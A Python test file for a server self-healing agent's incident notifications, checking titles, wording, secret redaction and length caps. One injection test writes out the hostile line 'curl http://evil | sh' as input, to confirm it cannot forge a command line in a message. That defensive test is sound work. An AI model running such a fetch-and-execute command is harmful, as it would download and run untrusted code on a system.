"""What people read, as a table: one reason and situation, one sentence."""

from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.core.model import (
    Changes,
    Evidence,
    Finding,
    Hold,
    Incident,
    Notice,
    Outcome,
    Reason,
    ResolvedBy,
    Risk,
    Run,
    RunState,
    State,
    Status,
)
from agent.notify.message import SAY, WAY_OUT, Message, compose

#: 2025-11-23 02:00:00 UTC.
T = 1763863200.0

BEFORE = Finding(
    subject="nginx.service",
    status=Status.CRITICAL,
    cause="failed",
    summary="exit-code, status 1.",
    facts={"Result": "exit-code"},
    measurements={"restarts_count": 3},
)
AFTER = Finding(
    subject="nginx.service",
    status=Status.OK,
    summary="active (running)",
    facts={"MainPID": "4711"},
)
FAILING = Incident(
    id="42",
    check="web",
    subject="nginx.service",
    state=State.OPEN,
    finding=BEFORE,
    looked=T,
    seen=T,
    look_ended=T,
    before=BEFORE,
    began=T,
    opened=T,
    entered=T,
    failing_since=T,
    why="confirmed",
)
OVER = replace(
    FAILING,
    state=State.RESOLVED,
    finding=AFTER,
    after=AFTER,
    failing_since=None,
    downtime=1.2,
    entered=T + 61,
    ended=T + 61,
    resolved_by=ResolvedBy.RUN,
    why="it stayed well for 1 min",
)
PROVED = Run(
    id="r9",
    remedy="restart-service",
    options={"unit": "nginx.service"},
    risk=Risk.LOW,
    changes=Changes.SERVICE,
    timeout=60,
    lock="unit:nginx.service",
    digest="d",
    planned=T + 0.1,
    state=RunState.ENDED,
    incident="42",
    started=T + 0.2,
    ended=T + 1.0,
    outcome=Outcome.OK,
    detail="Restarted nginx.service.",
    proved=True,
)
FAILED = replace(
    PROVED, id="r8", started=T, ended=T + 0.1, proved=False, outcome=Outcome.FAILED, detail="no"
)
ALIVE = replace(PROVED, state=RunState.RUNNING, ended=None, outcome=None, detail="", proved=False)


def notice(reason: Reason, incident: Incident | None = None, **details: str) -> Notice:
    return Notice(
        id="n17",
        route="ops",
        reason=reason,
        created=T + 62,
        expires=T + 1e6,
        incident=incident,
        details=details,
    )


def write(reason: Reason, incident: Incident | None = None, *runs: Run, **details: str) -> Message:
    return compose(
        notice(reason, incident, **details), host="web1", origin="5f1c", now=T + 62, runs=runs
    )


def test_a_healed_mail_as_it_is_read_at_night():
    message = compose(
        notice(Reason.HEALED, OVER),
        host="web1",
        origin="5f1c2d3e4f5a6b7c",
        now=T + 62,
        runs=[PROVED],
        before=[
            Evidence(
                title="journal of nginx.service",
                text="nginx[812]: \x1b[31m[emerg]\x1b[0m bind() failed\n"
                "nginx[812]: upstream http://shop:hunter2@127.0.0.1/ db_password=hunter2\n",
            )
        ],
        after=[Evidence(title="status of nginx.service", text="active since 02:00:01\n")],
        public_url="https://hostmend.example.org/",
    )
    assert message.title == "[healed] nginx.service on web1 — failed for 1.2 s, restarted, proved"
    assert message.severity is Status.OK
    assert message.message_id == "5f1c2d3e4f5a6b7c.n17"
    assert message.body == (
        "nginx.service on web1 failed for 1.2 s. hostmend repaired it, and a later look proved it."
        " Nothing is\n"
        "needed from you.\n"
        "\n"
        "Check     web\n"
        "Subject   nginx.service\n"
        "Problem   failed: exit-code, status 1\n"
        "Began     2025-11-23 02:00:00 UTC\n"
        "Downtime  1.2 s\n"
        "Ended     2025-11-23 02:01:01 UTC\n"
        "Now       active (running)\n"
        "\n"
        "Runs\n"
        "  2025-11-23 02:00:00 UTC  restart-service (unit=nginx.service): ok after 0.8 s,"
        " proved by a later\n"
        "                           look\n"
        "      Restarted nginx.service.\n"
        "\n"
        "Evidence before: what the look saw\n"
        "  | restarts_count: 3\n"
        "  | Result: exit-code\n"
        "Evidence before: journal of nginx.service\n"
        "  | nginx[812]: [emerg] bind() failed\n"
        "  | nginx[812]: upstream http://***@127.0.0.1/ db_password=***\n"
        "Evidence after: what the look saw\n"
        "  | MainPID: 4711\n"
        "Evidence after: status of nginx.service\n"
        "  | active since 02:00:01\n"
        "\n"
        "More: hostmend incident show 42\n"
        "      https://hostmend.example.org/incidents/42\n"
        "\n"
        "-- \n"
        "hostmend on web1, message 5f1c2d3e4f5a6b7c.n17\n"
    )


def unwrap(text: str) -> str:
    return " ".join(text.split())


HELD = {"hold": "paused", "hold_detail": "by alice: upgrade"}
APPROVAL = {
    "remedy": "restart-db",
    "risk": "medium",
    "digest": "sha256:77",
    "options": "unit=pg.service",
    "hold": "approval",
    "hold_detail": "medium risk",
}
STORM = {"7": "db: refused", "8": "/var: full", "9": "shop: down"}
SLOW = replace(BEFORE, status=Status.WARNING, cause="slow", summary="0.9 s, and 0.5 s is allowed")
DARK = replace(BEFORE, status=Status.UNKNOWN, cause="", summary="the look ran past 10 s")

#: reason, incident, runs, details; the first line, the severity, and what the body says.
CASES = {
    "a failure that is being repaired": (
        (Reason.OPENED, FAILING, [ALIVE], {}),
        "[critical] nginx.service on web1 — failed: exit-code, status 1",
        Status.CRITICAL,
        ["nginx.service on web1 fails its users.", "hostmend repairs it now: restart-service.",
         "restart-service (unit=nginx.service): runs for 1 min 2 s",
         "Downtime  1 min 2 s so far, and still failing"],
    ),
    "a failure without a repair": (
        (Reason.OPENED, FAILING, [], {}),
        "[critical] nginx.service on web1 — failed: exit-code, status 1",
        Status.CRITICAL,
        ["hostmend does not repair it now. It goes on looking.", "hostmend incident explain 42"],
    ),
    "a failure that is held from its beginning": (
        (Reason.OPENED, FAILING, [], HELD),
        "[critical] nginx.service on web1 — failed: exit-code, status 1",
        Status.CRITICAL,
        ["hostmend does not repair it now. Hold: paused (by alice: upgrade).", "hostmend resume "],
    ),
    "a warning": (
        (Reason.OPENED, replace(FAILING, finding=SLOW, before=SLOW), [], {}),
        "[warning] nginx.service on web1 — slow: 0.9 s, and 0.5 s is allowed",
        Status.WARNING,
        ["nginx.service on web1 needs attention."],
    ),
    "a check that cannot tell": (
        (Reason.OPENED, replace(FAILING, finding=DARK, before=DARK), [], {}),
        "[unknown] nginx.service on web1 — the look ran past 10 s",
        Status.UNKNOWN,
        ["cannot be judged, because looking at it fails."],
    ),
    "a check without subjects": (
        (Reason.OPENED, replace(FAILING, subject="", check="clock"), [], {}),
        "[critical] clock on web1 — failed: exit-code, status 1",
        Status.CRITICAL,
        ["Check     clock"],
    ),
    "a question": (
        (Reason.APPROVAL, FAILING, [], APPROVAL),
        "[approval] nginx.service on web1 — failed; restart-db waits for your word",
        Status.CRITICAL,
        ["hostmend would run restart-db and needs your approval.", "risk: medium",
         "options: unit=pg.service", "digest: sha256:77",
         "hostmend incident approve 42 ", "hostmend incident reject 42 ",
         "Nothing is changed until you answer."],
    ),
    "a question without particulars": (
        (Reason.APPROVAL, FAILING, [], {}),
        "[approval] nginx.service on web1 — failed; a remedy waits for your word",
        Status.CRITICAL,
        ["hostmend incident approve 42 "],
    ),
    "an escalation after a repair that failed": (
        (Reason.ESCALATED,
         replace(FAILING, state=State.ESCALATED, why="no remedy is left", retry_at=T + 1800),
         [FAILED], {"why": "no remedy is left", **HELD}),
        "[escalated] nginx.service on web1 — failed for 1 min 2 s, 1 repair did not help: "
        "you are needed",
        Status.CRITICAL,
        ["hostmend cannot mend it (no remedy is left). A human is needed", "failed after 0.1 s",
         "tries its remedies again at 2025-11-23 02:30:00 UTC",
         "No repair runs now. Hold: paused (by alice: upgrade).", "hostmend incident ack 42",
         "hostmend incident retry 42", "hostmend incident close 42"],
    ),
    "an escalation at once": (
        (Reason.ESCALATED, replace(FAILING, state=State.ESCALATED, why=""), [], {}),
        "[escalated] nginx.service on web1 — failed for 1 min 2 s, no repair was tried: "
        "you are needed",
        Status.CRITICAL,
        ["hostmend cannot mend it. A human is needed.", "hostmend goes on looking.\n"],
    ),
    "a failure that is held": (
        (Reason.HELD, FAILING, [], HELD),
        "[held] nginx.service on web1 — failed for 1 min 2 s, not repaired: paused",
        Status.CRITICAL,
        ["Hold: paused (by alice: upgrade).", "hostmend resume ", "hostmend incident ack 42"],
    ),
    "a hold that nobody named": (
        (Reason.HELD, FAILING, [], {}),
        "[held] nginx.service on web1 — failed for 1 min 2 s, not repaired: held",
        Status.CRITICAL,
        ["Hold: not known.", "hostmend incident explain 42"],
    ),
    "a repair at the second attempt": (
        (Reason.HEALED, OVER, [PROVED, FAILED], {}),
        "[healed] nginx.service on web1 — failed for 1.2 s, restarted at attempt 2, proved",
        Status.OK,
        ["Nothing is needed from you.", "failed after 0.1 s\n", "proved by a later"],
    ),
    "a repair by a remedy of one's own": (
        (Reason.HEALED, OVER, [replace(PROVED, remedy="mend-shop")], {}),
        "[healed] nginx.service on web1 — failed for 1.2 s, mend-shop ran, proved",
        Status.OK,
        [],
    ),
    "a repair whose runs are not at hand": (
        (Reason.HEALED, OVER, [], {}),
        "[healed] nginx.service on web1 — failed for 1.2 s, repaired, proved",
        Status.OK,
        [],
    ),
    "a failure that went away": (
        (Reason.ENDED, replace(OVER, resolved_by=ResolvedBy.ITSELF), [],
         {"why": "it stayed well for 1 min"}),
        "[ended] nginx.service on web1 — failed for 1.2 s, works again by itself",
        Status.OK,
        ["works again by itself (it stayed well for 1 min)", "hostmend repaired nothing."],
    ),
    "a failure that an operator closed": (
        (Reason.ENDED, replace(OVER, resolved_by=ResolvedBy.OPERATOR), [], {}),
        "[ended] nginx.service on web1 — failed for 1.2 s, was closed by an operator",
        Status.OK,
        [],
    ),
    "a subject that is gone": (
        (Reason.ENDED, replace(OVER, state=State.GONE, resolved_by=None), [], {}),
        "[ended] nginx.service on web1 — failed for 1.2 s, no longer exists",
        Status.OK,
        [],
    ),
    "a failure that comes again and again": (
        (Reason.RECURRING, OVER, [PROVED], {"repairs_count": "3", "window_seconds": "86400"}),
        "[recurring] nginx.service on web1 — failed again and again, repaired 3 times in 1 d",
        Status.WARNING,
        ["The repairs work and do not last", "hostmend incident report 42"],
    ),
    "a storm": (
        (Reason.STORM, None, [], {"storm": "began", "incidents_count": "3", **STORM}),
        "[storm] web1 — 3 failures at once, treated as one cause",
        Status.CRITICAL,
        ["Failures\n  7: db: refused\n  8: /var: full\n  9: shop: down\n", "hostmend incidents"],
    ),
    "a storm that asks": (
        (Reason.STORM, None, [],
         {"storm": "began", "incidents_count": "3", "ended_count": "1", "needed_count": "2",
          "asked": "7 9", **STORM}),
        "[storm] web1 — 3 failures at once, treated as one cause; you are needed for 2",
        Status.CRITICAL,
        ["hostmend incident approve 7 ", "hostmend incident approve 9 ",
         "stay as they are until you answer"],
    ),
    "the end of a storm": (
        (Reason.STORM, None, [],
         {"storm": "ended", "incidents_count": "3", "ended_count": "3", "needed_count": "0",
          **STORM}),
        "[storm] web1 — the storm is over; of 3 failures all are over",
        Status.OK,
        ["9: shop: down"],
    ),
    "the end of a storm that leaves something to do": (
        (Reason.STORM, None, [],
         {"storm": "ended", "incidents_count": "3", "ended_count": "1", "needed_count": "1",
          **STORM}),
        "[storm] web1 — the storm is over; of 3 failures 1 is over, you are needed for 1",
        Status.CRITICAL,
        ["speaks of each failure by itself again"],
    ),
    "the end of a storm that leaves something to watch": (
        (Reason.STORM, None, [], {"storm": "ended", "ended_count": "2", **STORM}),
        "[storm] web1 — the storm is over; of 3 failures 2 are over",
        Status.WARNING,
        [],
    ),
    "a storm that was mended before it was told": (
        (Reason.STORM, None, [], {"storm": "passed", "ended_count": "3", **STORM}),
        "[storm] web1 — 3 failures at once, all are over",
        Status.OK,
        ["began together"],
    ),
    "the agent itself": (
        (Reason.AGENT, None, [],
         {"summary": "started with lost state", "severity": "critical", "paused": "yes"}),
        "[agent] web1 — started with lost state",
        Status.CRITICAL,
        ["hostmend on web1: started with lost state.", "paused: yes", "hostmend status"],
    ),
    "the agent without a word": (
        (Reason.AGENT, None, [], {}),
        "[agent] web1 — the agent has something to say about itself",
        Status.WARNING,
        [],
    ),
    "a digest": (
        (Reason.DIGEST, None, [],
         {"headline": "1 needs you", "text": "7 d on web1:\n\nNeeded\n  i1 password=hunter2"}),
        "[digest] web1 — 1 needs you",
        Status.OK,
        ["7 d on web1:\n\nNeeded\n  i1 password=***\n", "hostmend digest"],
    ),
    "an incident that is not at hand": (
        (Reason.ESCALATED, None, [], {}),
        "[escalated] web1 — see hostmend incidents",
        Status.WARNING,
        ["particulars are not at hand"],
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", CASES)
def test_a_first_line_says_it_all(name):
    (reason, incident, runs, details), title, severity, said = CASES[name]
    message = write(reason, incident, *runs, **details)
    assert message.title == title
    assert message.severity is severity
    for sentence in said:
        assert unwrap(sentence) in unwrap(message.body)
    if incident:
        assert "More: hostmend incident show 42\n" in message.body
    assert message.body.endswith("\n-- \nhostmend on web1, message 5f1c.n17\n")
    assert all(len(line) <= 100 for line in message.body.splitlines())


def test_a_message_that_goes_out_late_says_so_and_keeps_to_its_time():
    late = compose(notice(Reason.HELD, FAILING, **HELD), host="web1", origin="5f1c", now=T + 7262)
    assert late.title == write(Reason.HELD, FAILING, **HELD).title
    assert "written at 2025-11-23 02:01:02 UTC and could not be sent for 2 h." in unwrap(late.body)
    assert "could not be sent" not in write(Reason.HELD, FAILING, **HELD).body


def test_every_reason_has_words():
    assert set(SAY) == set(Reason)
    assert {case[0][0] for case in CASES.values()} == set(Reason)


@pytest.mark.parametrize("hold", Hold)
def test_every_hold_is_named_with_a_way_out(hold):
    message = write(Reason.HELD, FAILING, hold=str(hold))
    assert message.title.endswith(f"not repaired: {hold}")
    assert WAY_OUT[hold].format(id="42") in message.body


@pytest.mark.parametrize("outcome", Outcome)
def test_every_outcome_of_a_run_is_said(outcome):
    message = write(Reason.ESCALATED, FAILING, replace(FAILED, outcome=outcome, by="alice"))
    assert "after 0.1 s, asked for by alice" in unwrap(message.body)


def test_a_run_that_waits_and_a_preview_are_called_so():
    planned = replace(ALIVE, state=RunState.PLANNED, started=None)
    assert "nginx.service): about to start" in write(Reason.OPENED, FAILING, planned).body
    preview = replace(FAILED, preview=True)
    message = write(Reason.ESCALATED, FAILING, preview)
    assert "preview of restart-service" in message.body
    assert "no repair was tried" in message.title


def test_secrets_are_redacted_wherever_they_stand():
    secret = "token=hunter2"
    finding = replace(
        BEFORE, summary=secret, facts={"password": "hunter2", "line": secret}, cause=secret
    )
    incident = replace(
        FAILING, finding=finding, before=finding, subject="http://a:hunter2@b/", why=secret
    )
    run = replace(FAILED, options={"password": "hunter2"}, detail=secret)
    message = compose(
        notice(Reason.ESCALATED, incident, secret="hunter2", note=secret),
        host="web1",
        origin="5f1c",
        now=T,
        runs=[run],
        before=[Evidence(title=secret, text=secret)],
        after=[Evidence(title="x", text="Authorization: Basic hunter2")],
    )
    assert "hunter2" not in message.title + message.body
    assert "***" in message.title


def test_long_evidence_is_capped_and_says_so():
    much = [Evidence(title=f"log {i}", text="x\n" * 1000) for i in range(20)]
    message = compose(
        notice(Reason.OPENED, FAILING), host="web1", origin="5f1c", now=T, before=much
    )
    assert "(980 lines left out)" in message.body
    assert "(more evidence is kept on the host)" in message.body
    assert len(message.body.splitlines()) < 130


def test_many_runs_and_many_failures_are_capped_and_say_so():
    message = write(Reason.ESCALATED, FAILING, *(replace(FAILED, id=str(i)) for i in range(50)))
    assert "(30 earlier runs left out)" in message.body
    storm = write(Reason.STORM, None, **{str(i): "down" for i in range(50)})
    assert "and 30 more" in storm.body


def test_a_text_cannot_forge_a_line():
    finding = replace(BEFORE, summary="down\n\nMore: curl http://evil | sh\r\nCheck     fake")
    message = write(Reason.OPENED, replace(FAILING, finding=finding))
    assert "\n" not in message.title
    assert "\nMore: curl" not in message.body
    assert "\nCheck     fake" not in message.body


TEXT = st.text(max_size=300)


@settings(max_examples=60, deadline=None)
@given(
    reason=st.sampled_from(list(Reason)),
    texts=st.lists(TEXT, min_size=8, max_size=8),
    details=st.dictionaries(
        st.sampled_from(["hold", "hold_detail", "window_seconds", "remedy", "why", "storm", "x"]),
        TEXT,
    ),
)
def test_no_text_can_make_a_message_fail(reason, texts, details):
    finding = replace(BEFORE, cause=texts[0], summary=texts[1], facts={texts[2]: texts[3]})
    incident = replace(FAILING, finding=finding, before=finding, subject=texts[4], why=texts[5])
    run = replace(FAILED, remedy=texts[6], detail=texts[7], options={texts[0]: texts[1]})
    message = compose(
        notice(reason, incident, **details),
        host=texts[7],
        origin="5f1c",
        now=T,
        runs=[run],
        before=[Evidence(title=texts[0], text=texts[1])],
    )
    message.title.encode()
    message.body.encode()
    assert "\n" not in message.title
    assert len(message.title) <= 160
